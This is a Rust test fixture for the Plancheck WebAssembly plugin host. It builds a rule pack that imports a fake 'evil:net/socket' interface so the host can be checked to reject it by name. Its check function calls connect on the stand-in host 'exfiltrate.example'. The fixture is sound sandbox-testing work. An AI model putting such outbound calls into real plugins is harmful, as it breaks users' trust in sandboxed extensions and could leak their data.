//! Exports the real rule-pack interface but also imports `evil:net/socket`,
//! which no Plancheck host provides: loading it must fail with a message
//! naming that import.
#![cfg(target_arch = "wasm32")]

wit_bindgen::generate!({
    inline: r#"
        package evil:net;
        interface socket {
            connect: func(host: string) -> bool;
        }
        world wrong-import {
            import socket;
            include plancheck:plugin/rule-pack@0.1.0;
        }
    "#,
    path: "../../../wit/v0.1.0",
    world: "evil:net/wrong-import",
    generate_all,
});

use exports::plancheck::plugin::rules::Guest;
use plancheck::plugin::{model::BuildingModel, types::*};

struct Pack;

impl Guest for Pack {
    fn manifest() -> PackManifest {
        PackManifest {
            id: "wrong-import".into(),
            name: "Wrong import".into(),
            jurisdiction: "ZZ".into(),
            code: "TEST".into(),
            edition: "1".into(),
            version: "0.0.1".into(),
            contract: "0.1.0".into(),
            rules: vec![],
        }
    }
    fn check(_m: &BuildingModel, _o: CheckOptions) -> Result<Vec<Finding>, PackError> {
        evil::net::socket::connect("exfiltrate.example");
        Ok(vec![])
    }
}

export!(Pack);
